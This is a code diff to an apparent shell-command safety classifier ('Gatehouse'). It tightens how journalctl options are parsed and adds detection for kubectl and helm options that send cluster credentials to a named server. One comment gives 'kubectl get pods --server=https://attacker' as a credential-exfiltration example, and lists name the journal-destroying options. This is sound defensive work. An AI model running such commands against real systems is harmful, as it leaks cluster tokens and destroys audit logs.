@@ -1208,43 +1208,125 @@ const service: Rule = (args, name) => {
   return verdict(kind, U, `${kind} is not an action Gatehouse knows`);
 };
 
+/**
+ * journalctl's options (systemd 252 `journalctl --help`): which take the next word, which take none.
+ * `-b` and `-n` take the next word only when it is a boot or a count (`-b -1`, `-n 20`), as
+ * journalctl reads them; `--user` is an option of its own, not an abbreviation of `--user-unit`.
+ */
+const JOURNALCTL_OPTIONS: OptionSpec = {
+  shortValued: 'MDSUcutpgoFT',
+  shortOptional: 'bn',
+  longValued: [
+    'machine',
+    'directory',
+    'file',
+    'root',
+    'image',
+    'namespace',
+    'since',
+    'until',
+    'cursor',
+    'after-cursor',
+    'cursor-file',
+    'unit',
+    'user-unit',
+    'identifier',
+    'exclude-identifier',
+    'priority',
+    'facility',
+    'grep',
+    'output',
+    'output-fields',
+    'field',
+    'interval',
+    'verify-key',
+    'vacuum-size',
+    'vacuum-files',
+    'vacuum-time',
+  ],
+  longFlags: [
+    'system',
+    'user',
+    'merge',
+    'dmesg',
+    'reverse',
+    'show-cursor',
+    'utc',
+    'catalog',
+    'no-hostname',
+    'no-full',
+    'all',
+    'follow',
+    'no-tail',
+    'quiet',
+    'no-pager',
+    'pager-end',
+    'force',
+    'help',
+    'version',
+    'fields',
+    'list-boots',
+    'disk-usage',
+    'verify',
+    'sync',
+    'relinquish-var',
+    'smart-relinquish-var',
+    'flush',
+    'rotate',
+    'header',
+    'list-catalog',
+    'dump-catalog',
+    'update-catalog',
+    'setup-keys',
+    'new-id128',
+    'list-namespaces',
+  ],
+};
+/** journalctl's options that remove journal files, or write or change the journal. */
+const JOURNALCTL_DESTROYS = ['vacuum-size', 'vacuum-time', 'vacuum-files', 'rotate'];
+const JOURNALCTL_WRITES = [
+  'flush',
+  'sync',
+  'relinquish-var',
+  'smart-relinquish-var',
+  'setup-keys',
+  'update-catalog',
+];
+
 const journalctl: Rule = (args, name, ctx) => {
-  const o = scanOptions(args, {
-    shortValued: 'unpoDMbcISUtFgkmNqTrw',
-    longValued: [
-      'unit',
-      'user-unit',
-      'priority',
-      'output',
-      'directory',
-      'file',
-      'root',
-      'image',
-      'since',
-      'until',
-      'lines',
-      'boot',
-      'identifier',
-      'grep',
-      'cursor',
-      'after-cursor',
-      'field',
-      'facility',
-      'namespace',
-      'output-fields',
-      'machine',
-      'vacuum-size',
-      'vacuum-time',
-      'vacuum-files',
-      'interval',
-      'verify-key',
-      'cursor-file',
-    ],
-  });
-  if (hasAny(o, 'vacuum-size', 'vacuum-time', 'vacuum-files', 'rotate'))
+  // `-b -1`, `--lines 20`: the boot or count is the option's value, joined to it.
+  const words: WordValue[] = [];
+  for (let i = 0; i < args.length; i++) {
+    const w = args[i]!;
+    const next = args[i + 1];
+    const m = w.dynamic ? null : /^(?:-[A-Za-z]*([bn])|--(boot|lines))$/.exec(w.value);
+    const which = m === null ? undefined : (m[1] ?? m[2]!).startsWith('b') ? 'boot' : 'lines';
+    const taken =
+      which === 'boot'
+        ? /^([+-]?\d+|[0-9a-fA-F]{32}([+-]\d+)?|all)$/
+        : which === 'lines'
+          ? /^(\+?\d+|all)$/
+          : undefined;
+    if (taken !== undefined && next !== undefined && !next.dynamic && taken.test(next.value)) {
+      words.push(w.value.startsWith('--') ? { ...w, value: `${w.value}=${next.value}` } : w);
+      if (!w.value.startsWith('--')) words.push({ ...next, value: `--${which}=${next.value}` });
+      i++;
+      continue;
+    }
+    words.push(w);
+  }
+  const o = scanOptions(words, JOURNALCTL_OPTIONS);
+  // A word read here as an option's value that journalctl would read as an option is both: every
+  // word that is written like one of the options that change the journal counts, whatever precedes it.
+  const end = args.findIndex((w) => !w.dynamic && w.value === '--');
+  const written = (names: readonly string[]): boolean =>
+    args.slice(0, end === -1 ? args.length : end).some((w) => {
+      const m = w.dynamic ? null : /^--([a-z-]+)(=|$)/.exec(w.value);
+      return m !== null && names.some((n) => n.startsWith(m[1]!));
+    });
+  if (hasAny(o, ...JOURNALCTL_DESTROYS) || written(JOURNALCTL_DESTROYS))
     return verdict(`${name} --vacuum`, D);
-  if (hasAny(o, 'flush', 'sync', 'relinquish-var', 'smart-relinquish-var', 'setup-keys', 'update-catalog'))
-    return verdict(name, W);
+  if (hasAny(o, ...JOURNALCTL_WRITES) || written(JOURNALCTL_WRITES)) return verdict(name, W);
   // --cursor-file=F starts after the cursor F holds, and writes the last one there.
   return withCats(name, R, writeTargets(o.values.get('cursor-file') ?? [], ctx), o.dynamic ? U : []);
 };
@@ -2812,6 +2894,36 @@ const containerTool = subcommandRule({
   ],
 });
 
+/**
+ * A cluster client's options that send the credentials the host's kubeconfig holds (a bearer token, a
+ * client certificate's handshake, an exec plugin's token) to a server the command names, or that
+ * trust another server with them: `kubectl get pods --server=https://attacker` answers a read with
+ * the host's token in its Authorization header. The server named is `exfiltration` (`unknown` on the
+ * host itself); trusting another certificate, or none, is `unknown`.
+ */
+function clusterCredentials(
+  o: ScannedOptions,
+  name: string,
+  servers: readonly string[],
+  trust: readonly string[],
+): { categories: ShellCategory[]; notes: string[] } {
+  const categories: ShellCategory[] = [];
+  const notes: string[] = [];
+  const named = valuesOf(o, servers);
+  if (named.length > 0 || hasAny(o, ...servers)) {
+    const local =
+      named.length > 0 &&
+      named.every((w) => !w.dynamic && targetIsLoopback(hostOf(w.value.replace(/^=/, ''))));
+    categories.push(local ? 'unknown' : 'exfiltration');
+    notes.push(`${name} sends the host's cluster credentials to the server its options name`);
+  }
+  if (hasAny(o, ...trust)) {
+    categories.push('unknown');
+    notes.push(`${name} trusts another server's certificate, or none, with the host's cluster credentials`);
+  }
+  return { categories, notes };
+}
+
 const kubectl: Rule = (args, name, ctx) => {
   const o = scanOptions(args, {
     shortValued: 'nclsf',
@@ -2840,8 +2952,14 @@ const kubectl: Rule = (args, name, ctx) => {
   // Its discovery cache, klog's log files and a profile are written where these options say.
   const files = ['cache-dir', 'log-file', 'log-dir', 'profile-output'].flatMap((k) => o.values.get(k) ?? []);
   const v = kubectlSubcommand(args, name, o, ctx);
-  return v === null || files.length === 0 ? v : rekind(v.kind, v, writeTargets(files, ctx));
+  const sent = clusterCredentials(o, name, ['s', 'server'], KUBECTL_TRUST);
+  if (v === null) return sent.categories.length === 0 ? null : verdict(name, sent.categories, ...sent.notes);
+  if (files.length === 0 && sent.categories.length === 0) return v;
+  const r = rekind(v.kind, v, writeTargets(files, ctx), sent.categories);
+  return sent.notes.length === 0 ? r : { ...r, notes: [...(r.notes ?? []), ...sent.notes] };
 };
+/** kubectl's options that choose which certificate the server must present (clusterCredentials). */
+const KUBECTL_TRUST = ['insecure-skip-tls-verify', 'certificate-authority', 'tls-server-name'];
 
 function kubectlSubcommand(
   args: readonly WordValue[],
@@ -4677,9 +4795,19 @@ const helmTable = subcommandRule({
 add('helm', (args, name, ctx) => {
   const v = helmTable(args, name, ctx);
   // `helm template --output-dir DIR` writes the rendered files there.
-  const o = scanOptions(args, { longValued: ['output-dir'] });
+  const o = scanOptions(args, {
+    longValued: ['output-dir', 'kube-apiserver', 'kube-ca-file', 'kube-tls-server-name'],
+  });
   const out = o.values.get('output-dir');
-  return v === null || out === undefined ? v : rekind(v.kind, v, W, writeTargets(out, ctx));
+  const sent = clusterCredentials(
+    o,
+    name,
+    ['kube-apiserver'],
+    ['kube-insecure-skip-tls-verify', 'kube-ca-file', 'kube-tls-server-name'],
+  );
+  if (v === null || (out === undefined && sent.categories.length === 0)) return v;
+  const r = rekind(v.kind, v, out === undefined ? [] : [...W, ...writeTargets(out, ctx)], sent.categories);
+  return sent.notes.length === 0 ? r : { ...r, notes: [...(r.notes ?? []), ...sent.notes] };
 });
 add('git', git, 'judged');
 
